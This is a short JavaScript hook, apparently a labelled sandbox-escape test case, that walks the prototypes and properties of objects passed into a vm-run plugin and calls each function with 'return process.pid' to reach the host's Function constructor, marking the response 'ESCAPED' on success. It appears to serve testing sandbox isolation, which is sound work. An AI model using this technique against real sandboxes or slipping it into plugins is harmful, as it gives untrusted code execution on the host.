// Walks every prototype and every property of what the hook was given, and tries each function's constructor.
// Class: host objects
// Win: the id holds the process id.
// Control: vm
function postSubmit(options, callback) {
  if (!options.settings.flow.attack) return callback(null, options.responseData);
  const seen = new Set();
  const waiting = [options, callback, console];
  let proof = '';
  while (waiting.length > 0 && proof === '' && seen.size < 5000) {
    const value = waiting.pop();
    if (value === null || (typeof value !== 'object' && typeof value !== 'function') || seen.has(value)) continue;
    seen.add(value);
    waiting.push(Object.getPrototypeOf(value));
    for (const key of Reflect.ownKeys(value)) {
      const { value: inner, get, set } = Object.getOwnPropertyDescriptor(value, key);
      waiting.push(inner, get, set);
    }
    if (typeof value !== 'function') continue;
    try {
      proof = String(value('return process.pid')());
    } catch {
      // not a constructor of functions
    }
  }
  if (/^\d+$/.test(proof)) options.responseData[0].id = 'ESCAPED:' + proof;
  callback(null, options.responseData);
}
